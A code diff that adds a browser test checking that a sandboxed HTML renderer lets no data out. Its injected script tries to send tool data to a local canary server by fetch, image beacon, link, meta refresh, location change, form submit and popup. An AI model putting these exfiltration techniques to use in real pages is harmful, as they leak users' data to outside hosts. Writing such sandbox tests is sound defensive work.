@@ -1,6 +1,7 @@
 // Every renderer, in the tester and on the page of a call.
 import assert from 'node:assert/strict';
 import { readFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
 import { install, simpleFiles } from '../lib/package.mjs';
 import { Workspace } from '../lib/workspace.mjs';
 
@@ -88,6 +89,50 @@ export const tests = {
     const frame = page.locator('iframe');
     await frame.contentFrame().getByText('origin null, parent no').waitFor();
     assert.equal(await frame.getAttribute('sandbox'), 'allow-scripts');
+  },
+
+  async 'html: data does not leave the page, not by navigation either'(world) {
+    const received = [];
+    const canary = createServer((request, response) => {
+      received.push(request.url);
+      response.end('received');
+    });
+    await new Promise((listening) => canary.listen(0, '127.0.0.1', listening));
+    try {
+      const target = `http://127.0.0.1:${canary.address().port}`;
+      // One page each: a navigation that is blocked ends the page. The text can be seen before the page tries to leave.
+      const ways = {
+        link: `const link = document.createElement('a'); link.href = '${target}/link?' + data; document.body.append(link); link.click();`,
+        refresh: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${target}/refresh?' + data; document.head.append(meta);`,
+        location: `window.location = '${target}/location?' + data;`,
+        form: `const form = document.createElement('form'); form.action = '${target}/form'; form.innerHTML = '<input name="data">'; document.body.append(form); form.submit();`,
+        popup: `window.open('${target}/popup?' + data);`,
+      };
+      for (const [way, leave] of Object.entries(ways)) {
+        const script = `
+          const data = encodeURIComponent(JSON.stringify(window.__TOOL_DATA__));
+          fetch('${target}/fetch?' + data).catch(() => {});
+          new Image().src = '${target}/image?' + data;
+          document.querySelector('#out').textContent = 'tries ${way}';
+          setTimeout(() => { ${leave} }, 2000);`;
+        const files = simpleFiles({ id: `leaks-${way}`, name: 'Leaks', tools: [{ id: 'leak', more: '    renderer: {type: html, artifact: artifacts/page.html, data: $return}\n' }] });
+        await install(world.haft, { ...files, 'artifacts/page.html': `<!doctype html><head></head><body><p id="out">waiting</p><script>${script}</script>` });
+        const page = await world.open(`/tools/leaks-${way}:leak@1.0.0?tab=try`);
+        await page.getByRole('button', { name: 'Run', exact: true }).click();
+        await page.locator('iframe').contentFrame().getByText(`tries ${way}`).waitFor();
+        await page.waitForTimeout(3000);
+        assert.deepEqual(received, [], way);
+      }
+      // What the policy blocked is reported, which is no defect of the page.
+      const blocked = (problem) => problem.includes(target) || /sandboxed|Fetch API cannot load|(img|connect|frame)-src blocked/.test(problem);
+      assert.ok(world.browser.problems.some(blocked));
+      world.browser.problems = world.browser.problems.filter((problem) => !blocked(problem));
+      // The canary hears what may reach it.
+      await fetch(`${target}/heard`);
+      assert.deepEqual(received, ['/heard']);
+    } finally {
+      canary.close();
+    }
   },
 
   async 'frame: only http and https'(world) {
